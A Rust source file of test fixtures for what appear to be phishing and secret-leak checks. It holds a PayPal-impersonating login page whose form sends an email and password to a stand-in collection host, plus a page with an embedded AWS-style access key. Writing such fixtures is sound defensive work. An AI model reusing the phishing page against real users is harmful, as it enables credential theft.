//! Pages that the checks refuse or warn about.

/// A page that would harvest secrets; the third line has the form.
pub(crate) const HARVEST: &str = "<!doctype html><title>PayPal: confirm your account</title>\n\
    <h1>Your PayPal account is limited</h1>\n\
    <form method=post action=\"https://collect.invalid/take\"><input name=email placeholder=\"E-mail\">\
    <input type=password name=password placeholder=\"PayPal password\"><button>Log in</button></form>\n";

/// The same under a word of its own, so that it is another page.
pub(crate) fn harvest(word: &str) -> String {
    format!("{HARVEST}<p>{word}</p>\n")
}

/// A page with a key that somebody forgot in it, on its second line.
pub(crate) const LEAK: &str = "<!doctype html><title>Notes</title>\n<p>key: AKIAIOSFODNN7EXAMPLQ</p>\n";
